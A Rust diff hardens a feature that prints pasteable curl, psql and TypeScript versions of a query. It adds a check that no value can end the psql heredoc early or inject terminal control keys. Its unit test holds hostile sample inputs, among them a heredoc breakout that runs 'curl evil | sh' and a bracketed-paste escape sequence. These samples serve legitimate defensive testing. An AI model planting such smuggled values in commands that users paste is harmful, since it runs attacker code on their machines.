@@ -1,5 +1,5 @@
-//! A query in other people's hands: for a shell, for `psql`, for a frontend. Invariant: each can be pasted as it is, and gives
-//! the same rows.
+//! A query in other people's hands: for a shell, for `psql`, for a frontend. Invariant: each can be pasted as it is, does
+//! nothing but ask, and gives the same rows. A query may come from a link of somebody else's.
 
 use std::fmt::Write as _;
 
@@ -16,13 +16,22 @@ pub(super) struct Equivalent {
 pub(super) fn all(page: &Page<'_>, address: &str, query: &str) -> Result<Vec<Equivalent>, Problem> {
     let url = if query.is_empty() { address.to_owned() } else { format!("{address}?{query}") };
     let mut all = vec![Equivalent { title: "curl", text: format!("curl '{url}'") }];
-    // A cursor is a place in a list, which SQL has no word for.
-    if !page.has_cursor() {
-        let text = format!("psql \"$DATABASE_URL\" <<'SQL'\n{};\nSQL", page.written());
-        all.push(Equivalent { title: "psql", text });
+    // A cursor is a place in a list, which SQL has no word for; and the database does not know whose rows are hidden.
+    if !page.has_cursor() && page.view.rows.is_all() {
+        let sql = page.written();
+        if is_pasted_whole(&sql) {
+            let text = format!("psql \"$DATABASE_URL\" <<'SQL'\n{sql};\nSQL");
+            all.push(Equivalent { title: "psql", text });
+        }
     }
     all.push(Equivalent { title: "TypeScript", text: typescript(page, &url) });
     Ok(all)
+}
+
+/// Whether a terminal hands it to psql as it stands: no value ends it early, or is a key of the terminal's.
+fn is_pasted_whole(sql: &str) -> bool {
+    let is_key = |character: char| character.is_control() && character != '\n';
+    !sql.contains(is_key) && sql.lines().all(|line| line.trim() != "SQL")
 }
 
 fn typescript(page: &Page<'_>, url: &str) -> String {
@@ -71,5 +80,20 @@ fn of_type(name: &str) -> &'static str {
         "json" | "jsonb" => "unknown",
         array if array.ends_with("[]") => "unknown[]",
         _ => "string",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_value_leaves_what_is_pasted() {
+        assert!(is_pasted_whole("SELECT t.\"a\"\nFROM m.t t\nWHERE t.a = 'SQL'"));
+        for sql in
+            ["WHERE t.a = 'x\nSQL\ncurl evil | sh\n'", "'x\n SQL \n'", "'\u{1b}[201~'", "'\r'"]
+        {
+            assert!(!is_pasted_whole(sql), "{sql:?}");
+        }
     }
 }
